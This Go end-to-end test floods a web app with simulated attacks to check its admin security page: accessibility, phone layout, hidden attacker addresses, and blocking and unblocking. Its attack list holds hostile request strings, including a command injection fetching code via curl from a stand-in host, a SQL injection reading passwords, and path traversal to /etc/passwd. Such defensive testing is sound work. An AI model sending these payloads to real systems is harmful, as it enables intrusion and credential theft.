package e2e_test

import (
	"cmp"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// attackers are addresses of several countries; each behaves in another way.
var attackers = []string{"192.0.2.", "198.51.100.", "203.0.113.", "92.46.1.", "5.9.8."}

// attacks are what they ask for, where there is no log of real ones.
var attacks = []string{
	"/wp-login.php", "/administrator/index.php", "/.env", "/.git/config", "/backup.sql", "/?q=$(curl%20http://192.0.2.1/a)", "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
	"/..%2f..%2f..%2fetc/passwd", "/?s=%3Cscript%3Ealert(1)%3C/script%3E", "/phpmyadmin/index.php", "/cgi-bin/test.cgi",
}

var asked = regexp.MustCompile(`"(GET|HEAD) (/\S*) HTTP[^"]*" \d+ \S+ "[^"]*" "([^"]*)"`)

// realAttacks are lines of logs of attacks, where the shared data is there.
func realAttacks(t *testing.T) (targets, agents []string) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(cmp.Or(os.Getenv("KELISIM_TESTDATA"), "../../shared/data"), "risk", "crowdsec", "*", "*.log"))
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range files {
		text, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range asked.FindAllStringSubmatch(string(text), 30) {
			targets, agents = append(targets, m[2]), append(agents, m[3])
		}
	}
	return targets, agents
}

// attack sends attacks from many addresses.
func (p *program) attack(t *testing.T) (sent int) {
	t.Helper()
	targets, agents := realAttacks(t)
	if len(targets) == 0 {
		targets = attacks
	}
	for i := range 400 {
		r, err := http.NewRequest(http.MethodGet, p.site+"/", nil)
		if err != nil {
			t.Fatal(err)
		}
		r.URL.Opaque = targets[i*7%len(targets)]
		r.Header.Set("X-Forwarded-For", attackers[i%len(attackers)]+strconv.Itoa(7+i/len(attackers)%9))
		if len(agents) > 0 {
			r.Header.Set("User-Agent", agents[i*7%len(agents)])
		}
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			continue // a target that no client sends
		}
		_, _ = io.Copy(io.Discard, answer.Body) // whatever it is
		closing(t, answer.Body)
		sent++
	}
	return sent
}

// TestTheSecurityPage: under real attacks it has no barriers, fits a phone, names nobody, and whoever is blocked there is.
func TestTheSecurityPage(t *testing.T) {
	source, err := os.ReadFile("testdata/axe/axe.min.js")
	if err != nil {
		t.Fatal(err)
	}
	p := start(t, "--trust", "hops:1", "--risk", "enforce")
	p.admin(t)
	if n := p.attack(t); n < 100 {
		t.Fatalf("%d attacks were sent", n)
	}
	for _, s := range []struct {
		language, scheme string
		width            int64
	}{{"kk", "light", 390}, {"ru", "dark", 390}, {"en", "light", 320}, {"kk", "dark", 1280}, {"ru", "light", 1280}} {
		v := visit(t, p.site, options{language: s.language})
		v.signIn()
		v.open("/admin/security")
		name := s.language + "-" + s.scheme + "-" + strconv.FormatInt(s.width, 10)
		v.wantFits("security, " + name)
		v.look(s.width, 900, s.scheme)
		v.open("/admin/security")
		v.await(`document.readyState === "complete"`)
		v.audit(string(source), "security, "+name, "document")
		text := ask[string](v, `document.documentElement.outerHTML`)
		for _, addr := range attackers {
			if strings.Contains(text, addr) {
				t.Errorf("%s: an address of %s* is on the page", name, addr)
			}
		}
		if n := ask[int](v, `document.querySelectorAll(".find").length`); n < 10 {
			t.Errorf("%s: %d incidents", name, n)
		}
		if *shots != "" {
			v.picture("security-"+name, true)
		}
		if s.width != 320 {
			continue
		}
		v.submit(".find-form button", "/admin/security")
		v.await(`document.querySelector("[role=status]") !== null`)
		v.audit(string(source), "blocked", "document")
		if n := ask[int](v, `document.querySelectorAll("form[action$='/unblock']").length`); n != 1 {
			t.Errorf("%d are blocked", n)
		}
		if *shots != "" {
			v.picture("security-blocked", true)
		}
		v.submit("form[action$='/unblock'] button", "/admin/security")
		v.await(`document.querySelectorAll("form[action$='/unblock']").length === 0`)
	}
}
